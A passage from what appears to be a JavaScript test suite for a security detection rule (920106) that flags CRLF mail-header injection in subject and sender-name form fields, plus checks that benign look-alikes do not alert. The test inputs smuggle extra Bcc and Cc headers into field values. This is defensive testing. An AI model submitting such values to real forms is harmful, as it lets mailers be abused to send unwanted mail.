  });

  it('crlf: a recipient or sender line after a break in a subject field, whatever its first line, not in a message', () => {
    const subject = 'Pregunta sobre envío\r\nBcc: lista1@example.com, lista2@example.org';
    for (const name of ['subject', 'asunto', 'contact[betreff]', 'mail.subject']) expect(idsOf(subject, 'body_form', name)).toContain(920106);
    expect(idsOf(subject, 'body_form', 'message')).not.toContain(920106);
    expect(idsOf('Order 1182\nplease call me back', 'body_form', 'subject')).not.toContain(920106);
  });

  it("crlf: the same in a sender's display-name field, which mailers put in the From header", () => {
    for (const name of ['from_name', 'senderName', 'settings.reply_to_name', 'from-display-name'])
      expect({ name, ids: idsOf('HR Team\nCc: all-staff@mailbox.test', 'body_json', name) }).toEqual({ name, ids: expect.arrayContaining([920106]) });
    expect(idsOf('HR Team\nCc: all-staff@mailbox.test', 'body_json', 'note')).not.toContain(920106);
  });

  it('their benign look-alikes do not alert', () => {
    const own = benign.filter((r) => ['xxe', 'crlf', 'session_fixation'].includes(r.id.split(':')[1]));
    expect(own.length).toBeGreaterThan(20);
    expect(own.filter(alerts).map((r) => r.id)).toEqual([]);
  });
});
